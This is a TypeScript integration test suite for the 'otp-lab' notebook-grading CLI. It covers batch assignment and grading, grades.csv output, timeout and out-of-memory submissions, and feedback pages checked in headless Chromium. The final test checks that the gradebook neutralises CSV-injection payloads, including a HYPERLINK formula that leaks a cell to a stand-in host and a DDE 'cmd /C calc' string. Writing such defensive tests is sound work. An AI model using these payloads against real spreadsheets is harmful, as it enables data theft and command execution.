/// <reference lib="dom" />
/**
 * Grading a whole class with the real CLI on real lessons (notebooks/01 and 03):
 *   - `otp-lab assign notebooks/ RELEASE/`: every lesson's student version, at its relative path, the same as
 *     assigning each file alone;
 *   - `otp-lab grade STUDENTS/ --source notebooks/ --out-dir RESULTS/ -j 2`: 13 submissions of the two lessons
 *     (solved, blank, half done, an endless loop, a kernel crash, invalid JSON, and one notebook no source is
 *     named like), matched to their sources by file name: every score and status right in grades.csv and in
 *     each report, one progress line per submission and a summary, exit 1 (some could not be graded);
 *   - each feedback page opened in headless Chromium (Debian's): the visible tests' text and points are on the
 *     page, the hidden tests' text is not (unless --reveal-hidden), no script, no error;
 *   - bad arguments exit 2.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { existsSync, mkdirSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import path from "node:path";
import { chromium, type Browser } from "playwright-core";
import { ROOT, cellById, gradeIdOf, otpLab, readNb, requireBuild, tempDir, text, writeNb, type CliResult } from "./grader/helpers.js";

const CHROMIUM = "/usr/bin/chromium";
const LESSONS = path.join(ROOT, "notebooks");
const L01 = "01-processes-links-monitors";
const L03 = "03-one-for-one";
const dir = tempDir("otp-lab-batch-test-");
const release = path.join(dir, "release");
const students = path.join(dir, "students");
const results = path.join(dir, "results");
const SLOW = 400_000;

/** The source's solution cells, by grade_id. */
function solutions(lesson: string): Record<string, string> {
  const out: Record<string, string> = {};
  for (const c of readNb(path.join(LESSONS, `${lesson}.ipynb`)).cells) if (c.metadata?.nbgrader?.solution === true) out[gradeIdOf(c)!] = text(c.source);
  return out;
}

const allText = (file: string) =>
  readNb(file)
    .cells.map((c) => text(c.source))
    .join("\n");

/**
 * Lines inside the hidden-test blocks of a lesson's source, trimmed: the long ones that students were not handed
 * (`}` or `const shop = await startShop();` are in the visible tests too).
 */
function hiddenLines(lesson: string): string[] {
  const released = allText(path.join(release, `${lesson}.ipynb`));
  const blocks = allText(path.join(LESSONS, `${lesson}.ipynb`)).match(/\/\/ BEGIN HIDDEN TESTS\n([\s\S]*?)\/\/ END HIDDEN TESTS/g) ?? [];
  const lines = blocks.flatMap((b) => b.split("\n").slice(1, -1)).map((l) => l.trim()).filter((l) => l.length >= 24 && !released.includes(l));
  expect(lines.length).toBeGreaterThan(5);
  return lines;
}

/** As the feedback page escapes text. */
const escHtml = (s: string) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;").replace(/'/g, "&#39;");

/** The first line of a test cell's visible part that only that cell has. */
function visibleLine(lesson: string, gradeId: string): string {
  const src = text(cellById(readNb(path.join(LESSONS, `${lesson}.ipynb`)), gradeId).source).split("// BEGIN HIDDEN TESTS")[0]!;
  return src.split("\n").map((l) => l.trim()).find((l) => l.length > 30 && l.includes("assert"))!;
}

/** What each submission must score: [score, status, ex1 points, ex2 points]. */
const EXPECTED: Record<string, [number, string, number | "", number | ""]> = {
  solved: [6, "ok", 2, 4],
  blank: [0, "ok", 0, 0],
  half: [2, "ok", 2, 0],
  loop: [4, "timeout", 0, 4],
  crash: [2, "crashed", 2, 0],
  invalid: [0, "invalid", 0, 0],
};

function makeSubmissions(lesson: string, prefix: string): void {
  const sol = solutions(lesson);
  const student = path.join(release, `${lesson}.ipynb`);
  const [ex1, ex2] = [`${prefix}-ex1-solution`, `${prefix}-ex2-solution`];
  const write = (who: string, sources: Record<string, string>) => {
    mkdirSync(path.join(students, who), { recursive: true });
    const nb = readNb(student);
    for (const [id, src] of Object.entries(sources)) cellById(nb, id).source = src;
    writeNb(path.join(students, who, `${lesson}.ipynb`), nb);
  };
  write("solved", { [ex1]: sol[ex1]!, [ex2]: sol[ex2]! });
  write("blank", {});
  write("half", { [ex1]: sol[ex1]! });
  // The first exercise's cell never ends: it times out, the rest is graded on a restarted kernel.
  write("loop", { [ex1]: `${sol[ex1]!}\nwhile (true) {}`, [ex2]: sol[ex2]! });
  // The second exercise's cell fills the kernel's memory: the kernel dies, is restarted, and goes on. (Buffers,
  // not arrays: V8's last garbage collections before it gives up on a full heap take seconds on a busy machine.)
  write("crash", { [ex1]: sol[ex1]!, [ex2]: `${sol[ex2]!}\nconst hog: Uint8Array[] = [];\nfor (;;) hog.push(new Uint8Array(64 * 2 ** 20).fill(1));` });
  mkdirSync(path.join(students, "invalid"), { recursive: true });
  writeFileSync(path.join(students, "invalid", `${lesson}.ipynb`), '{"cells": [ not json');
}

function parseCsv(s: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < s.length; i++) {
    const ch = s[i]!;
    if (quoted) {
      if (ch === '"' && s[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") row.push(field), (field = "");
    else if (ch === "\n") row.push(field.replace(/\r$/, "")), rows.push(row), (row = []), (field = "");
    else field += ch;
  }
  if (field || row.length) row.push(field), rows.push(row);
  return rows;
}

beforeAll(() => {
  requireBuild();
  if (!existsSync(CHROMIUM)) throw new Error(`${CHROMIUM} is missing: this test needs Debian's chromium; install it with \`apt-get install -y chromium\``);
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe("otp-lab assign SOURCE_DIR RELEASE_DIR", () => {
  it("writes every lesson's student version at its relative path, as assigning each file does", async () => {
    const r = await otpLab(["assign", LESSONS, release]);
    expect(r.code, r.stderr).toBe(0);
    const lessons = readdirSync(LESSONS).filter((f) => f.endsWith(".ipynb")).sort();
    expect(lessons).toHaveLength(14);
    expect(readdirSync(release).sort()).toEqual(lessons); // notebooks only: tools/ (with solutions) is not copied
    expect(r.stderr).toMatch(/otp-lab assign: 14 student notebooks in .*release \(\d+ solution blocks stubbed, \d+ hidden test blocks removed\)/);
    const one = path.join(dir, "one.ipynb");
    expect((await otpLab(["assign", path.join(LESSONS, `${L03}.ipynb`), one])).code).toBe(0);
    expect(readFileSync(path.join(release, `${L03}.ipynb`), "utf8")).toBe(readFileSync(one, "utf8"));
    for (const f of lessons) {
      const all = readNb(path.join(release, f)).cells.map((c) => text(c.source)).join("\n");
      expect(all, f).not.toMatch(/BEGIN (SOLUTION|HIDDEN TESTS)/);
    }
  });

  it("refuses a release folder inside the source folder, and writes nothing when one source is bad", async () => {
    let r = await otpLab(["assign", LESSONS, path.join(LESSONS, "release")]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/is inside the source folder/);
    expect(existsSync(path.join(LESSONS, "release"))).toBe(false);
    const src = path.join(dir, "bad-sources");
    mkdirSync(path.join(src, "week2"), { recursive: true });
    writeFileSync(path.join(src, "good.ipynb"), readFileSync(path.join(LESSONS, `${L01}.ipynb`)));
    writeFileSync(path.join(src, "week2", "broken.ipynb"), "{ nope");
    r = await otpLab(["assign", src, path.join(dir, "bad-release")]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/1 of the 2 notebooks .* cannot be assigned; nothing was written:\n {2}source notebook .*broken\.ipynb is not valid notebook JSON/);
    expect(existsSync(path.join(dir, "bad-release"))).toBe(false);
  });
});

describe("otp-lab grade STUDENTS/ --source notebooks/ --out-dir RESULTS/ -j 2", () => {
  let r: CliResult;
  let seconds: number;
  const names = () => [...Object.keys(EXPECTED).flatMap((who) => [`${who}/${L01}`, `${who}/${L03}`]), "stray/notes"].sort();

  beforeAll(async () => {
    if (!existsSync(release)) expect((await otpLab(["assign", LESSONS, release])).code).toBe(0);
    makeSubmissions(L01, "l01");
    makeSubmissions(L03, "l03");
    // No source is named notes.ipynb.
    mkdirSync(path.join(students, "stray"), { recursive: true });
    writeFileSync(path.join(students, "stray", "notes.ipynb"), readFileSync(path.join(release, `${L03}.ipynb`)));
    // Jupyter's checkpoints are not submissions.
    mkdirSync(path.join(students, "solved", ".ipynb_checkpoints"), { recursive: true });
    writeFileSync(path.join(students, "solved", ".ipynb_checkpoints", `${L03}-checkpoint.ipynb`), "{}");
    const t0 = Date.now();
    // --timeout 8: long enough for every lesson cell (the first one warms TypeScript up) on a busy 2-core
    // machine running other tests at the same time, short enough for the loops.
    r = await otpLab(["grade", students, "--source", LESSONS, "--out-dir", results, "-j", "2", "--timeout", "8", "--memory", "768"]);
    seconds = (Date.now() - t0) / 1000;
  }, SLOW);

  it("exits 1 (some submissions could not be graded) after grading all of them", () => {
    expect(r.code, r.stderr).toBe(1);
    expect(r.stdout).toBe("");
    expect(seconds).toBeGreaterThan(0);
  });

  it("writes grades.csv: one row per submission, its score, a column per grade_id, its status", () => {
    const rows = parseCsv(readFileSync(path.join(results, "grades.csv"), "utf8"));
    const header = rows[0]!;
    const lessonIds = (n: string) => Array.from({ length: 2 }, (_, k) => `l${n}-ex${k + 1}-tests`);
    const ids = ["01", "02", "03", "04", "05", "06", "07", "08", "09", "10", "11", "12", "13", "14"].flatMap(lessonIds);
    expect(header).toEqual(["name", "score", "max_score", ...ids, "status", "duration_s"]);
    const body = rows.slice(1);
    expect(body.map((row) => row[0])).toEqual(names());
    const col = (row: string[], name: string) => row[header.indexOf(name)]!;
    for (const row of body) {
      const [who, lesson] = row[0]!.split("/") as [string, string];
      if (who === "stray") {
        expect([col(row, "score"), col(row, "max_score"), col(row, "status")]).toEqual(["0", "0", "invalid"]);
        expect(ids.every((id) => col(row, id) === "")).toBe(true);
        continue;
      }
      const [score, status, ex1, ex2] = EXPECTED[who]!;
      const n = lesson === L01 ? "01" : "03";
      expect([col(row, "score"), col(row, "max_score"), col(row, "status")], row[0]).toEqual([String(score), "6", status]);
      expect([col(row, `l${n}-ex1-tests`), col(row, `l${n}-ex2-tests`)], row[0]).toEqual([String(ex1), String(ex2)]);
      // The other lessons' columns are empty: not this submission's tests.
      expect(ids.filter((id) => !id.startsWith(`l${n}-`)).every((id) => col(row, id) === "")).toBe(true);
      expect(Number(col(row, "duration_s"))).toBeGreaterThanOrEqual(0);
    }
  });

  it("writes each submission's report, with the reason where it could not be graded", () => {
    for (const name of names()) {
      const report = JSON.parse(readFileSync(path.join(results, `${name}.json`), "utf8"));
      const who = name.split("/")[0]!;
      if (who === "stray") {
        expect(report.error).toMatch(/no source notebook is named notes\.ipynb .*matched to sources by file name/);
        continue;
      }
      expect(report.score, name).toBe(EXPECTED[who]![0]);
      if (who === "invalid") expect(report.error).toMatch(/is not valid notebook JSON/);
      if (who === "loop") expect(report.incidents[0]).toMatchObject({ kind: "timeout", name: expect.stringMatching(/-ex1-solution$/) });
      if (who === "crash") expect(report.incidents[0]).toMatchObject({ kind: "crashed", what: expect.stringMatching(/ran out of memory \(the grader allows 768 MB\)/) });
    }
    expect(existsSync(path.join(results, "solved", ".ipynb_checkpoints"))).toBe(false);
  });

  it("prints one line per finished submission with the running count and an ETA, and a summary", () => {
    const lines = [...r.stderr.matchAll(/^\[(\d+)\/(\d+)\] (\S+) (\d+(?:\.\d+)?)\/(\d+(?:\.\d+)?) (\d+\.\d) s(?: (timeout|crashed|invalid|error))?(?: · (\d+) running, (\d+) waiting, ETA .+)?$/gm)];
    expect(lines.map((m) => Number(m[1]))).toEqual(Array.from({ length: 13 }, (_, k) => k + 1));
    expect(lines.every((m) => m[2] === "13")).toBe(true);
    expect(lines.map((m) => m[3]).sort()).toEqual(names());
    for (const m of lines) {
      const who = m[3]!.split("/")[0]!;
      const [score, status] = who === "stray" ? [0, "invalid"] : EXPECTED[who]!;
      expect([Number(m[4]), m[7] ?? "ok"], m[0]).toEqual([score, status]);
    }
    // Every line but the last has the ETA.
    expect(lines.slice(0, -1).every((m) => m[8] !== undefined)).toBe(true);
    expect(r.stderr).toMatch(/^grade: 13 submissions in .*, 2 at a time; results in /m);
    expect(r.stderr).toMatch(/^grade: 13 submissions in (?:[\d.]+ s|\d+ min \d+ s) with -j 2: 10 graded \(6 ok, 2 timeout, 2 crashed\), 3 invalid$/m);
    expect(r.stderr).toMatch(/^grade: mean score 2\.8 \/ 6 \(47%\) over the graded; slowest \S+ \d+\.\d s$/m);
    expect(r.stderr).toMatch(/^grade: stray\/notes: invalid: no source notebook is named notes\.ipynb/m);
    // Per-cell lines of the interleaved gradings are not printed.
    expect(r.stderr).not.toMatch(/\] cell /);
  });

  it("writes a feedback page per submission: visible tests and points shown, hidden tests' text not (Chromium)", async () => {
    const browser: Browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ["--no-sandbox", "--disable-gpu"] });
    try {
      const page = await browser.newPage();
      const errors: string[] = [];
      page.on("pageerror", (e) => errors.push(String(e)));
      page.on("console", (m) => m.type() === "error" && errors.push(m.text()));
      for (const name of names()) {
        const file = path.join(results, `${name}.html`);
        await page.goto(`file://${file}`);
        const body = await page.evaluate(() => document.body.innerText);
        const info = await page.evaluate(() => ({
          scripts: document.scripts.length,
          images: [...document.images].map((i) => [i.complete, i.naturalWidth] as const),
          results: [...document.querySelectorAll<HTMLElement>(".result")].map((e) => e.dataset.gradeId),
        }));
        const html = readFileSync(file, "utf8");
        const who = name.split("/")[0]!;
        expect(info.scripts, name).toBe(0);
        if (who === "stray") {
          expect(body).toMatch(/Score: 0 \/ 0 points/);
          expect(body).toMatch(/The submission could not be graded: no source notebook is named notes\.ipynb/);
          continue;
        }
        const lesson = name.endsWith(L01) ? L01 : L03;
        const n = lesson === L01 ? "01" : "03";
        const [score, status, ex1, ex2] = EXPECTED[who]!;
        expect(body, name).toContain(`Score: ${score} / 6 points`);
        if (status !== "ok") expect(body, name).toContain(`Status: ${status}`);
        // The tests table: each test's points.
        expect(body, name).toMatch(new RegExp(`l${n}-ex1-tests \\(hidden\\)\\s+${ex1} / 2`));
        expect(body, name).toMatch(new RegExp(`l${n}-ex2-tests \\(hidden\\)\\s+${ex2} / 4`));
        for (const line of hiddenLines(lesson)) {
          expect(body, `${name}: hidden line ${line}`).not.toContain(line);
          expect(html, `${name}: hidden line ${line}`).not.toContain(escHtml(line));
        }
        if (who === "invalid") {
          expect(body).toMatch(/The submission could not be graded: submission .* is not valid notebook JSON/);
          expect(info.results).toEqual([]);
          continue;
        }
        // The graded notebook: the visible tests' code, each test's result under its cell, the pictures decoded.
        for (const id of ["ex1", "ex2"]) expect(body, name).toContain(visibleLine(lesson, `l${n}-${id}-tests`));
        expect(info.results).toEqual([`l${n}-ex1-tests`, `l${n}-ex2-tests`]);
        expect(body).toMatch(new RegExp(`l${n}-ex1-tests \\(hidden\\): ${ex1} / 2 points — ${ex1 ? "passed" : "(failed|timeout|crashed)"}`));
        expect(body).toMatch(new RegExp(`l${n}-ex2-tests \\(hidden\\): ${ex2} / 4 points — ${ex2 ? "passed" : "(failed|timeout|crashed)"}`));
        if (who === "blank") expect(body).toContain("failed: Error: not implemented");
        if (who === "loop") expect(body).toMatch(/CellTimeoutError: the cell was still running after 8 s/);
        if (who === "crash") expect(body).toMatch(/DeadKernelError: the kernel ran out of memory/);
        expect(info.images.length, name).toBeGreaterThan(0);
        for (const [complete, width] of info.images) expect(complete && width > 0, name).toBe(true);
      }
      expect(errors).toEqual([]);
    } finally {
      await browser.close();
    }
  }, 120_000);
});

describe("a batch that grades every submission", () => {
  it("exits 0; --format gradescope writes results.json files; --reveal-hidden shows hidden tests to staff", async () => {
    const src = path.join(dir, "one-source");
    const subs = path.join(dir, "one-class");
    mkdirSync(src, { recursive: true });
    mkdirSync(path.join(subs, "dana"), { recursive: true });
    writeFileSync(path.join(src, `${L03}.ipynb`), readFileSync(path.join(LESSONS, `${L03}.ipynb`)));
    // A single source notebook: every submission is graded against it, whatever its name.
    writeFileSync(path.join(subs, "dana", "my lab 3.ipynb"), readFileSync(path.join(LESSONS, `${L03}.ipynb`)));
    const out = path.join(dir, "one-results");
    const r = await otpLab(["grade", subs, "--source", path.join(src, `${L03}.ipynb`), "--out-dir", out, "-j", "1", "--format", "gradescope", "--reveal-hidden"]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toMatch(/^\[1\/1\] dana\/my lab 3 6\/6 \d+\.\d s$/m);
    const gs = JSON.parse(readFileSync(path.join(out, "dana", "my lab 3.json"), "utf8"));
    expect(gs).toMatchObject({ score: 6, stdout_visibility: "hidden", extra_data: { max_score: 6, finished: true } });
    const rows = parseCsv(readFileSync(path.join(out, "grades.csv"), "utf8"));
    expect(rows[1]!.slice(0, 6)).toEqual(["dana/my lab 3", "6", "6", "2", "4", "ok"]);
    const html = readFileSync(path.join(out, "dana", "my lab 3.html"), "utf8");
    expect(html).toContain("// BEGIN HIDDEN TESTS");
    for (const line of hiddenLines(L03)) expect(html).toContain(escHtml(line));
  }, SLOW);

  it.each([
    ["a folder without --out-dir", (s: string) => ["grade", s, "--source", LESSONS], /is a directory; give the \.ipynb file, or grade every notebook in it with --out-dir/],
    ["--out with a folder", (s: string) => ["grade", s, "--source", LESSONS, "--out-dir", path.join(dir, "x"), "--out", "r.json"], /--out is for one submission/],
    ["-j 0", (s: string) => ["grade", s, "--source", LESSONS, "--out-dir", path.join(dir, "x"), "-j", "0"], /--jobs wants a positive whole number, not '0'/],
    ["--out-dir with one file", () => ["grade", path.join(LESSONS, `${L03}.ipynb`), "--source", LESSONS, "--out-dir", path.join(dir, "x")], /--out-dir is for a folder of submissions/],
    ["an empty folder", () => ["grade", path.join(dir, "empty"), "--source", LESSONS, "--out-dir", path.join(dir, "x")], /holds no \.ipynb file/],
    ["results inside the project's dist/", (s: string) => ["grade", s, "--source", LESSONS, "--out-dir", path.join(ROOT, "dist", "results")], /the results folder .* is inside a folder the graded code can read/],
  ])("%s exits 2 and grades nothing", async (_what, args, message) => {
    mkdirSync(path.join(dir, "empty"), { recursive: true });
    const r = await otpLab(args(students));
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toMatch(message);
    expect(existsSync(path.join(dir, "x"))).toBe(false);
    expect(existsSync(path.join(ROOT, "dist", "results"))).toBe(false);
  });
});

describe("grades.csv opened in a spreadsheet", () => {
  it("a submission named like a formula stays text (CSV injection); scores stay numbers", async () => {
    const { gradebook } = await import("../kernel/grader/batch.js");
    const results = (score: number) => ({ submission: "", source: "", score, max_score: 6, finished: true, tests: [{ grade_id: "t1", score }], restored: [], reinserted: [], stripped: [], kernel_restarts: 0 });
    const rows = [
      { name: '=HYPERLINK("http://x.example/?"&A1,"open")', results: results(6), status: "ok" as const, seconds: 1 },
      { name: "+cmd|' /C calc'!A0", results: results(0), status: "ok" as const, seconds: 1 },
      { name: "@SUM(1+1)", results: results(2), status: "ok" as const, seconds: 1 },
      { name: "-2+3", results: results(4), status: "ok" as const, seconds: 1 },
      { name: "alice", results: results(6), status: "ok" as const, seconds: 1 },
    ];
    const csv = parseCsv(gradebook(rows as never, ["t1"]));
    const byName = Object.fromEntries(csv.slice(1).map((r) => [r[0], r]));
    expect(Object.keys(byName).sort()).toEqual(["'+cmd|' /C calc'!A0", "'-2+3", "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "'@SUM(1+1)", "alice"]);
    // No field but the apostrophe-led ones starts like a formula; the numbers are untouched.
    for (const r of csv) for (const f of r) expect(f, f).not.toMatch(/^[=+\-@\t]/);
    expect(byName["alice"]!.slice(1, 4)).toEqual(["6", "6", "6"]);
  });
});
